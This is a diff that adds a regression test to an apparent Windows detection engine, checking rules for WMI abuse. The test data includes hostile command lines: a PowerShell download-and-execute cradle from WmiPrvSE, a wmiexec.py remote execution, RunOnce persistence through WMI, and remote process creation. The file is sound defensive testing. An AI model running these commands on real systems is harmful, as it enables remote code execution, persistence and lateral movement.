@@ -710,6 +710,212 @@ fn findings() {
     }
 }
 
+/// Answers that were wrong once.
+#[test]
+fn answers_that_were_wrong() {
+    let wmic = format!("{WBEM}WMIC.exe");
+    let wmiprvse = format!("{WBEM}WmiPrvSE.exe");
+    let mofcomp = format!("{WBEM}mofcomp.exe");
+    let cmd = r"C:\Windows\System32\cmd.exe";
+    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+    let create = |line: &str| format!("wmic process call create \"{line}\"");
+    let job = create(r"C:\Tools\job.exe /at 10:30");
+    let port = create(r"C:\Program Files\Contoso\client.exe server01:8443");
+    let blanks = create(r"C:\my files\a.txt:evil.exe");
+    let dir = create(r"cmd.exe /c dir C:\Logs");
+    let echo = create(r"cmd.exe /c echo x > C:\Users\Public\a.bat");
+    let ftp = create(r"ftp.exe -s:C:\ProgramData\a.txt");
+    let hive = r"wmic /namespace:\\root\default class StdRegProv call";
+    let enumerated =
+        format!(r#"{hive} EnumValues sSubKeyName="SOFTWARE\Microsoft\Windows\CurrentVersion\Run""#);
+    let runtime =
+        format!(r#"{hive} SetStringValue sSubKeyName="SOFTWARE\Contoso\CurrentVersion\Runtime""#);
+    let once = format!(
+        r#"{hive} SetStringValue sSubKeyName="SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce""#
+    );
+    let table: &[(&str, &str, &str, &str, bool)] = &[
+        (&wmic, cmd, &job, "wmic_stream_execution", false),
+        (&wmic, cmd, &port, "wmic_stream_execution", false),
+        (&wmic, cmd, &blanks, "wmic_stream_execution", true),
+        (&wmic, cmd, &dir, "wmic_suspicious_process_create", false),
+        (&wmic, cmd, &echo, "wmic_suspicious_process_create", true),
+        (&wmic, cmd, &ftp, "wmic_suspicious_process_create", true),
+        (&wmic, cmd, &enumerated, "wmi_autorun_add", false),
+        (&wmic, cmd, &runtime, "wmi_autorun_add", false),
+        (&wmic, cmd, &once, "wmi_autorun_add", true),
+        (
+            &wmic,
+            cmd,
+            "wmic service where name='MSSQLSERVER' call changestartmode Automatic",
+            "wmic_critical_service_stop",
+            false,
+        ),
+        (
+            &wmic,
+            cmd,
+            "wmic service where name='MSSQLSERVER' call changestartmode Disabled",
+            "wmic_critical_service_stop",
+            true,
+        ),
+        (
+            &wmic,
+            cmd,
+            "wmic service where name='AudioEndpointBuilder' call stopservice",
+            "wmic_critical_service_stop",
+            false,
+        ),
+        (
+            &wmic,
+            cmd,
+            "wmic product where name='Contoso Endpoint Printer' call uninstall",
+            "wmic_security_product_uninstall",
+            false,
+        ),
+        (
+            &wmic,
+            cmd,
+            "wmic environment where name='COR_PROFILER' delete",
+            "profiler_hijack",
+            false,
+        ),
+        (
+            &wmic,
+            cmd,
+            "wmic nicconfig where Index=7 call /?",
+            "wmic_network_change",
+            false,
+        ),
+        (
+            &wmic,
+            cmd,
+            r"wmic /namespace:\\root\microsoft\windows\defender class MSFT_MpSignature call Update",
+            "wmic_defender_change",
+            false,
+        ),
+        (
+            r"C:\Windows\System32\msiexec.exe",
+            cmd,
+            "msiexec.exe /i agent.msi COMPUTERNAME=WKS07 ACTION=INSTALL",
+            "wmi_attack_tool",
+            false,
+        ),
+        (
+            r"C:\t\a.exe",
+            cmd,
+            "a.exe action=create computername=SRV01 command=calc",
+            "wmi_attack_tool",
+            true,
+        ),
+        (
+            r"C:\Python\python.exe",
+            cmd,
+            r"python.exe C:\Repo\tests\test_wmiquery_report.py",
+            "wmi_attack_tool",
+            false,
+        ),
+        (
+            r"C:\Python\python.exe",
+            cmd,
+            r"python.exe C:\t\wmiexec.py a@10.0.0.5",
+            "wmi_attack_tool",
+            true,
+        ),
+        (
+            r"C:\Windows\System32\cscript.exe",
+            cmd,
+            "cscript winrm.vbs invoke StartService wmicimv2/Win32_Service?Name=Spooler @{} -r:http://FILE02",
+            "winrm_wmi_create",
+            false,
+        ),
+        (
+            r"C:\Windows\System32\schtasks.exe",
+            cmd,
+            r#"schtasks /change /tn "Old wmic job" /disable"#,
+            "scheduled_wmi",
+            false,
+        ),
+        (
+            r"C:\Windows\System32\schtasks.exe",
+            cmd,
+            r#"schtasks /create /tn Doc /tr "notepad.exe C:\Docs\wmic.exe.txt""#,
+            "scheduled_wmi",
+            false,
+        ),
+        (
+            r"C:\Windows\System32\schtasks.exe",
+            cmd,
+            r#"schtasks /create /tn Doc /tr "cmd /c wmic os get""#,
+            "scheduled_wmi",
+            true,
+        ),
+        (
+            cmd,
+            cmd,
+            r"cmd.exe /c C:\Scripts\a.cmd > \\.\C:\Logs\a.log 2>&1",
+            "share_output_redirect",
+            false,
+        ),
+        (
+            &wmiprvse,
+            r"C:\Users\Public\svchost.exe",
+            "WmiPrvSE.exe",
+            "wmiprvse_unexpected_parent",
+            true,
+        ),
+        (
+            &mofcomp,
+            r"C:\Windows\System32\svchost.exe",
+            r"mofcomp.exe C:\Users\Public\a.mof",
+            "mof_compiler_suspicious",
+            true,
+        ),
+        (
+            &mofcomp,
+            r"C:\Windows\System32\msiexec.exe",
+            r"mofcomp.exe C:\Windows\Temp\a.mof",
+            "mof_compiler_suspicious",
+            false,
+        ),
+        (
+            powershell,
+            &wmiprvse,
+            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x/')",
+            "wmiprvse_suspicious_child",
+            true,
+        ),
+        (
+            powershell,
+            &wmiprvse,
+            r"powershell -File C:\Users\Public\a.ps1",
+            "wmiprvse_suspicious_child",
+            true,
+        ),
+        (
+            powershell,
+            cmd,
+            "powershell -c $s = New-CimSession; Get-CimInstance Win32_Process -CimSession $s",
+            "powershell_remote_wmi",
+            false,
+        ),
+        (
+            powershell,
+            cmd,
+            "powershell -c Invoke-WmiMethod -ComputerName $h -Class Win32_Process -Name Create -ArgumentList a",
+            "powershell_remote_process_create",
+            true,
+        ),
+    ];
+    let wrong: Vec<_> = table
+        .iter()
+        .filter(|(image, parent, line, name, expected)| {
+            let flag = Indicators::from_name(&name.to_uppercase()).unwrap();
+            process(image, parent, line).indicators().contains(flag) != *expected
+        })
+        .map(|(_, _, line, name, _)| format!("{name}: {line}"))
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
 /// From another computer, by the user that was authenticated; not a service's own child.
 #[test]
 fn inbound_execution() {
